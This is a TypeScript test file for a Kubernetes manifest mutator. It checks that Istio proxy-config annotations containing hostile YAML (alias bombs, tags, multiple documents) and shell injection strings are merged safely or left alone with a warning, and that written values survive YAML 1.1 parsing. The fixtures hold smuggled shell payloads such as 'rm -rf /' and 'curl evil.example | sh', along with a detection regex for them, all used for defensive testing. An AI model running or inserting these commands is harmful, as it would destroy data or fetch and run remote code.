/**
 * Issue #8, injection safety: a manifest's own text must never turn into something else.
 *
 * 1. `proxy.istio.io/config` holds a YAML document of its own. Values with anchors, tags, several
 *    documents, invalid YAML or shell metacharacters are, for every mutator that writes the
 *    annotation (app-graceful classic sidecars, job-sidecar-quit wrap mode, gateway-drain env
 *    mode): merged key by key with every key we don't own kept, or left unchanged with a warning
 *    finding. Never executed, never mangled.
 * 2. Every value kube-graceful writes reads back as the same string under a full YAML 1.1 reader
 *    (yes/no/on/off, 0644, 1:30 sexagesimal, 2001-01-01 timestamps), on every edit path: a new
 *    key, a replaced plain or quoted scalar, a JSON document, a List item, a ResourceList item,
 *    CRLF, and the syntax-tree fallback.
 *
 * The Job wrapper's own argv safety (hostile program names and arguments, run under dash, busybox
 * ash and bash) is proven by running it in test/mutators/job/wrapper.test.ts; it is not repeated
 * here. That names never reach an output raw (terminal sequences, Markdown, HTML; issue #33) is
 * proven on every output of the built CLI in hostile-names.test.ts.
 */
import test from 'ava';
import type { ExecutionContext } from 'ava';
import { isDeepStrictEqual } from 'node:util';
import { parseAllDocuments, parseDocument, stringify } from 'yaml';
import { transform } from '../../fn/engine/transform.ts';
import type { TransformResult } from '../../fn/engine/transform.ts';
import { formatPath } from '../../fn/core/fieldPath.ts';
import { defineMutator } from '../../fn/mutators/types.ts';
import type { RegisteredMutator } from '../../fn/mutators/types.ts';

/** Test mutators make no plan, so nothing asks them to explain one. */
const noPlan = (): never => {
  throw new Error('a test mutator makes no plan');
};
import { readData, shownReading } from '../helpers/reliability-tree.ts';
import { TRICKY_STRINGS } from './arbitraries.ts';
import type { Obj } from './arbitraries.ts';
import { APP_SETTINGS } from '../../fn/mutators/app/settings/slice.ts';

const ANNOTATION = 'proxy.istio.io/config';

const aliasBomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
  .concat(
    ['b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'].map(
      (k, i) =>
        `${k}: &${k} [${Array(9)
          .fill(`*${String.fromCharCode(97 + i)}`)
          .join(',')}]`,
    ),
  )
  .join('\n');

/** Annotation values that are YAML with a twist, or not YAML at all. */
const HOSTILE: ReadonlyArray<{ name: string; value: string }> = [
  { name: 'anchors and aliases', value: 'concurrency: &c 2\nextraStatTags: [*c]\n' },
  { name: 'a merge key', value: 'base: &b {concurrency: 2}\n<<: *b\n' },
  { name: 'an alias bomb', value: aliasBomb },
  { name: 'a !!binary root', value: '!!binary aGVsbG8=' },
  { name: 'a custom !foo tag', value: 'tracing: !foo {zipkin: {address: "zipkin:9411"}}\n' },
  {
    name: 'tags on the keys kube-graceful sets',
    value:
      'holdApplicationUntilProxyStarts: !!str true\n' +
      'terminationDrainDuration: !!str 5s\n' +
      'drainDuration: !!int 5\n',
  },
  { name: 'two documents', value: 'concurrency: 2\n---\nholdApplicationUntilProxyStarts: false\n' },
  {
    name: 'a document end marker and a shell line',
    value: 'concurrency: 2\n...\nrm -rf / # gone\n',
  },
  { name: 'invalid YAML', value: 'concurrency: [2\n' },
  { name: 'shell metacharacters', value: '$(rm -rf /); `id` && curl evil.example | sh' },
  {
    name: 'shell metacharacters inside valid fields',
    value:
      'tracing: {zipkin: {address: "$(curl evil.example|sh):9411"}}\n' +
      'proxyMetadata: {HOOK: "`id`; rm -rf /"}\n',
  },
  { name: 'a list', value: '- holdApplicationUntilProxyStarts: true\n' },
  { name: 'proxyMetadata as a list', value: 'proxyMetadata: [EXIT_ON_ZERO_ACTIVE_CONNECTIONS]\n' },
  { name: 'JSON', value: '{"concurrency": 2, "proxyMetadata": {"KEEP": "1"}}' },
  {
    name: 'YAML 1.1 words in values',
    value: 'proxyMetadata: {FLAG: on, MODE: 0644, WHEN: 2001-01-01, SPAN: 1:30}\n',
  },
  { name: 'CRLF line ends', value: 'concurrency: 2\r\nproxyMetadata:\r\n  KEEP: "1"\r\n' },
  { name: 'a comment only', value: '# nothing set here\n' },
  { name: 'deep nesting', value: `x: ${'['.repeat(5000)}${']'.repeat(5000)}\n` },
];

/**
 * ProxyConfig fields a mutator may set (DOMAIN §2); everything else must come out as it went in.
 */
const OWNED = new Set([
  'holdApplicationUntilProxyStarts',
  'terminationDrainDuration',
  'drainDuration',
  'parentShutdownDuration',
]);
const OWNED_METADATA = new Set(['EXIT_ON_ZERO_ACTIVE_CONNECTIONS', 'MINIMUM_DRAIN_DURATION']);

/** Words that would only be in the output if annotation text had leaked into something run. */
const PAYLOAD = /rm -rf|`id`|curl evil/;

interface Scenario {
  readonly name: string;
  readonly flags: Record<string, string>;
  /** The workload, with the annotation value on its pod template. */
  readonly object: (value: string) => Obj;
}

const podMeta = (labels: Obj, annotations: Obj) => ({ labels, annotations });

const SCENARIOS: readonly Scenario[] = [
  {
    name: 'app-graceful, classic Istio sidecar',
    flags: { 'sidecar-mode': 'classic' },
    object: (value) => ({
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'web', namespace: 'shop' },
      spec: {
        selector: { matchLabels: { app: 'web' } },
        template: {
          metadata: podMeta(
            { app: 'web', 'sidecar.istio.io/inject': 'true' },
            { [ANNOTATION]: value },
          ),
          spec: {
            containers: [{ name: 'web', image: 'nginx:1.27', ports: [{ containerPort: 8080 }] }],
          },
        },
      },
    }),
  },
  {
    name: 'job-sidecar-quit, wrap mode',
    flags: { 'job-mode': 'wrap' },
    object: (value) => ({
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: { name: 'migrate', namespace: 'shop' },
      spec: {
        template: {
          metadata: podMeta({ 'sidecar.istio.io/inject': 'true' }, { [ANNOTATION]: value }),
          spec: {
            restartPolicy: 'Never',
            containers: [
              { name: 'migrate', image: 'busybox:1.36', command: ['/app/migrate', '--once'] },
            ],
          },
        },
      },
    }),
  },
  {
    name: 'gateway-drain, env mode',
    // A load balancer gives the drain window; without one the gateway gets no drainDuration.
    flags: { 'gateway-mode': 'env', 'lb-provider': 'aws-nlb-ip' },
    object: (value) => ({
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'ingress', namespace: 'istio-ingress' },
      spec: {
        selector: { matchLabels: { istio: 'ingress' } },
        template: {
          metadata: podMeta(
            { istio: 'ingress', 'sidecar.istio.io/inject': 'true' },
            { 'inject.istio.io/templates': 'gateway', [ANNOTATION]: value },
          ),
          spec: {
            containers: [
              {
                name: 'istio-proxy',
                image: 'auto',
                ports: [{ containerPort: 15090, name: 'http-envoy-prom' }],
              },
            ],
          },
        },
      },
    }),
  },
];

/** The annotation's value in the output's first document. */
function annotationOf(output: string): unknown {
  const data = readData(output) as { spec: { template: { metadata: { annotations: Obj } } } };
  return data.spec.template.metadata.annotations[ANNOTATION];
}

/**
 * The config's data when it is one YAML mapping (an empty or comment-only one is `{}`), else
 * undefined.
 */
function mapping(text: string): Obj | undefined {
  const docs = parseAllDocuments(text, { version: '1.1' });
  if (!Array.isArray(docs) || docs.length > 1 || docs.some((d) => d.errors.length > 0))
    return undefined;
  if (docs.length === 0) return {};
  try {
    const data = (docs[0]!.toJS({ maxAliasCount: 100 }) as unknown) ?? {};
    return typeof data === 'object' && !Array.isArray(data) ? (data as Obj) : undefined;
  } catch {
    return undefined;
  }
}

/** Every container word of the output: none may carry annotation text into a program. */
function programWords(output: string): string[] {
  const data = readData(output) as {
    spec: { template: { spec: { containers: Array<{ command?: string[]; args?: string[] }> } } };
  };
  return data.spec.template.spec.containers.flatMap((c) => [
    ...(c.command ?? []),
    ...(c.args ?? []),
  ]);
}

/**
 * Scenarios known to fail, run as `test.failing` so ava says when they start passing. Empty: the
 * last one (`proxyMetadata` as a list threw in the shared proxy-config merge, exit 70) is fixed.
 */
const KNOWN_BUGS = new Set<string>();

/** Every key the mutators do not own is as it was; what they set is written as text. */
function assertKeptAndWritten(t: ExecutionContext, before: Obj, merged: Obj): void {
  for (const [key, value] of Object.entries(before)) {
    if (OWNED.has(key)) continue;
    if (
      key === 'proxyMetadata' &&
      value !== null &&
      typeof value === 'object' &&
      !Array.isArray(value)
    ) {
      for (const [name, entry] of Object.entries(value as Obj)) {
        if (!OWNED_METADATA.has(name))
          t.deepEqual((merged['proxyMetadata'] as Obj)[name], entry, `proxyMetadata.${name} kept`);
      }
      continue;
    }
    t.true(isDeepStrictEqual(merged[key], value), `${key} kept: ${JSON.stringify(merged[key])}`);
  }
  for (const name of OWNED_METADATA) {
    const written = (merged['proxyMetadata'] as Obj | undefined)?.[name];
    if (written !== undefined && written !== (before['proxyMetadata'] as Obj | undefined)?.[name])
      t.is(
        typeof written,
        'string',
        `proxyMetadata.${name} is written as a string (Istio reads map[string]string)`,
      );
  }
}

for (const scenario of SCENARIOS) {
  for (const hostile of HOSTILE) {
    const declare = KNOWN_BUGS.has(`${scenario.name} / ${hostile.name}`) ? test.failing : test;
    declare(
      `${ANNOTATION} with ${hostile.name}: ${scenario.name} merges key by key or warns`,
      (t) => {
        const input = stringify(scenario.object(hostile.value), { version: '1.1', lineWidth: 0 });
        let result: TransformResult;
        try {
          result = transform(input, { flags: scenario.flags });
        } catch (error) {
          t.fail(`the run failed: ${error instanceof Error ? error.stack : String(error)}`);
          return;
        }
        for (const doc of parseAllDocuments(result.output, { version: '1.1' }))
          t.deepEqual(doc.errors, [], 'the output is YAML');
        const after = annotationOf(result.output);
        t.is(typeof after, 'string', 'the annotation is still a string');
        t.false(
          programWords(result.output).some((word) => PAYLOAD.test(word)),
          'no annotation text in any command or argument',
        );
        const records = result.changes.filter((c) =>
          formatPath(c.path).endsWith(`["${ANNOTATION}"]`),
        );
        if (after === hostile.value) {
          t.deepEqual(records, [], 'unchanged: no change record for it');
          const warned = result.findings.some(
            (f) =>
              f.severity !== 'info' &&
              f.path !== undefined &&
              formatPath(f.path).endsWith(`["${ANNOTATION}"]`),
          );
          const before = mapping(hostile.value);
          // Left alone: either said so with a warning, or it already held what the mutator needs.
          t.true(
            warned || before !== undefined,
            'left unchanged without a warning: ' +
              JSON.stringify(result.findings.map((f) => f.code)),
          );
          return;
        }
        // Merged: one mapping, every key we don't own as it was, what we set written as text.
        const before = mapping(hostile.value);
        const merged = mapping(String(after));
        t.truthy(
          before,
          `a value that is not one plain mapping was rewritten: ${JSON.stringify(after)}`,
        );
        t.truthy(merged, `the merged value is one YAML mapping: ${JSON.stringify(after)}`);
        if (!before || !merged) return;
        assertKeptAndWritten(t, before, merged);
        t.is(records.at(-1)?.after, after, 'the change record says what was written');
      },
    );
  }
}

test('each scenario writes the annotation when its value is a plain mapping (the merges above are real)', (t) => {
  for (const scenario of SCENARIOS) {
    const result = transform(stringify(scenario.object('concurrency: 2\n'), { version: '1.1' }), {
      flags: scenario.flags,
    });
    const after = annotationOf(result.output);
    t.not(after, 'concurrency: 2\n', scenario.name);
    t.is(mapping(String(after))?.['concurrency'], 2, `${scenario.name}: concurrency kept`);
  }
});

// ---------------------------------------------------------------------------------------------
// Written values keep their type under a full YAML 1.1 reader
// ---------------------------------------------------------------------------------------------

/**
 * Strings that YAML 1.1 (PyYAML, go-yaml v2, the yaml-1.1 schema) reads as something else when
 * plain.
 */
const YAML11_TRAPS = [
  'yes',
  'no',
  'on',
  'off',
  'y',
  'N',
  'True',
  'null',
  '~',
  '0644',
  '0x1F',
  '1e3',
  '.inf',
  '1:30',
  '190:20:30',
  '2001-01-01',
  '2001-12-14t21:59:43.10-05:00',
  '',
  '-',
  '<<',
  '=',
];

/**
 * Sets every trap as an annotation, an env value and a command word, and grows the grace period.
 */
const trapWriter: RegisteredMutator = defineMutator<never, 'app-graceful'>({
  id: 'app-graceful',
  settings: APP_SETTINGS,
  findingCodes: [],
  explain: noPlan,
  description: 'reliability test: writes YAML 1.1 traps',
  enabled: () => true,
  mutate(workload) {
    const first = workload.containers[0]?.name ?? 'c';
    return {
      changes: [
        ...YAML11_TRAPS.map((value, i) => ({
          path: workload.at('metadata', 'annotations', `trap.example/${i}`),
          value,
          reason: 'trap annotation',
        })),
        ...YAML11_TRAPS.map((value, i) => ({
          path: workload.containerAt(first, 'env', { key: 'name', equals: `TRAP_${i}` }, 'value'),
          value,
          reason: 'trap env',
        })),
        {
          path: workload.containerAt(first, 'command'),
          value: [...YAML11_TRAPS],
          reason: 'trap command',
        },
        {
          path: workload.containerAt(first, 'args'),
          value: ['--at', '1:30'],
          reason: 'replaces a plain scalar list',
        },
      ],
      findings: [],
    };
  },
});

/** Returns every string the run wrote, read back from the output with the full YAML 1.1 schema. */
function readBackFull(
  result: TransformResult,
): Array<{ path: string; wrote: unknown; read: unknown }> {
  const out: Array<{ path: string; wrote: unknown; read: unknown }> = [];
  const mode = result.mode;
  const docs = parseAllDocuments(result.output.replace(/^\uFEFF/, ''), {
    version: '1.1',
    intAsBigInt: false,
  });
  const objects: unknown[] = [];
  for (const doc of Array.isArray(docs) ? docs : []) {
    const data = doc.toJS() as Obj | null;
    if (data === null) continue;
    if (mode === 'resourceList') objects.push(...((data['items'] as unknown[]) ?? []));
    else if (data['kind'] === 'List') objects.push(...(data['items'] as unknown[]));
    else objects.push(data);
  }
  for (const record of result.changes) {
    const object = objects.find(
      (o) =>
        (o as Obj)['kind'] === record.resource.kind &&
        ((o as Obj)['metadata'] as Obj)['name'] === record.resource.name,
    );
    let node: unknown = object;
    for (const segment of record.path) {
      if (node === null || typeof node !== 'object') break;
      node =
        typeof segment === 'object'
          ? (node as Obj[]).find((item) => item[segment.key] === segment.equals)
          : (node as Obj)[segment as string];
    }
    out.push({ path: formatPath(record.path), wrote: record.after, read: node });
  }
  return out;
}

const POD = `apiVersion: v1
kind: Pod
metadata:
  name: p
  annotations:
    existing: "kept"
spec:
  containers:
  - name: c
    image: busybox
    args: [--at, "12:00"]
    env:
    - name: TRAP_0
      value: plain
    - name: TRAP_1
      value: 'single'
    - name: TRAP_2
      value: "double"
`;

const EDIT_PATHS: Record<string, string> = {
  'block document (new keys, replaced plain and quoted scalars)': POD,
  'JSON document': JSON.stringify(readData(POD)),
  'kind: List item':
    `apiVersion: v1\n` +
    `kind: List\n` +
    `items:\n` +
    `- ${POD.trimEnd().split('\n').join('\n  ')}\n`,
  'ResourceList item':
    `apiVersion: config.kubernetes.io/v1\n` +
    `kind: ResourceList\n` +
    `items:\n` +
    `- ${POD.trimEnd().split('\n').join('\n  ')}\n`,
  'CRLF document': POD.replace(/\n/g, '\r\n'),
  // An explicit key (`? existing`) defeats the text splice; the tree fallback prints the document.
  'syntax-tree fallback': POD.replace('    existing: "kept"\n', '    ? existing\n    : "kept"\n'),
};

for (const [name, input] of Object.entries(EDIT_PATHS)) {
  test(`written values read back as the same strings under full YAML 1.1: ${name}`, (t) => {
    const result = transform(input, { mutators: [trapWriter] });
    t.true(result.changes.length >= YAML11_TRAPS.length * 2 + 2);
    for (const { path, wrote, read } of readBackFull(result))
      t.deepEqual(
        read,
        wrote,
        `${path}: written ${JSON.stringify(wrote)}, a YAML 1.1 reader gets ${shownReading(read)}`,
      );
    // And the engine's own reading (no timestamps, no sexagesimal) agrees.
    const again = transform(result.output, { mutators: [trapWriter] });
    t.deepEqual(
      again.changes.map((c) => formatPath(c.path)),
      [],
      'idempotent',
    );
  });
}

test('YAML 1.1 traps are quoted where they are written (regression: 1:30 and 2001-01-01 went out plain)', (t) => {
  const { output } = transform(POD, { mutators: [trapWriter] });
  for (const trap of ['1:30', '190:20:30', '2001-01-01'])
    t.true(output.includes(`"${trap}"`), `${trap} is quoted`);
  t.false(/^\s*- 1:30$/m.test(output), 'no plain 1:30 list item');
  t.is(
    typeof (parseDocument(output, { version: '1.1' }).toJS() as { metadata: { annotations: Obj } })
      .metadata.annotations['trap.example/13'],
    'string',
  );
});

test('every generated tricky string survives as a written value', (t) => {
  // TRICKY_STRINGS also drive the property tests' generated manifests (arbitraries.ts).
  const writer: RegisteredMutator = defineMutator<never, 'app-graceful'>({
    id: 'app-graceful',
    settings: APP_SETTINGS,
    description: 'reliability test: writes tricky strings',
    findingCodes: [],
    explain: noPlan,
    enabled: () => true,
    mutate: (workload) => ({
      changes: TRICKY_STRINGS.map((value, i) => ({
        path: workload.at('metadata', 'annotations', `tricky.example/${i}`),
        value,
        reason: 'tricky',
      })),
      findings: [],
    }),
  });
  const result = transform(POD, { mutators: [writer] });
  for (const { path, wrote, read } of readBackFull(result)) t.deepEqual(read, wrote, path);
});
